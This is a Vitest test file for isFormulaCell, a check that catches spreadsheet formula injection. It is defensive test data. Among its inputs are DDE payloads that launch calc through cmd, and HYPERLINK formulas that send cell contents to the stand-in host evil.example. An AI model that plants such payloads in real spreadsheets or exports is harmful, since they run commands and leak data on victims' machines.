import { describe, expect, it } from 'vitest';
import { isFormulaCell } from '../src/files/spreadsheet-formula.js';

describe('isFormulaCell', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"Pulsa")',
    '=1+1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+A1',
    '-SUM(A1:A9)',
    '+"texto"',
    "-'hoja'!A1",
    '+34 600\n=HYPERLINK("http://evil.example")',
    '\t=1+1',
    '\r=1+1',
    '\tcualquier cosa',
    '=',
    '@',
  ])('neutralises %j, which a spreadsheet would evaluate', (value) => {
    expect(isFormulaCell(value)).toBe(true);
  });

  it.each([
    '+34 600 000 000',
    '+34 (91) 555-55-55',
    '+1 212/555.0100',
    '-12,50',
    '-1.234,56',
    '-7',
    '+',
    '-',
    '--',
    'Lucía',
    '600 000 000',
    ' =no empieza por el signo',
    'a=b',
    'correo@example.com',
    '',
  ])('leaves %j as written: no function, reference or DDE call is possible', (value) => {
    expect(isFormulaCell(value)).toBe(false);
  });
});
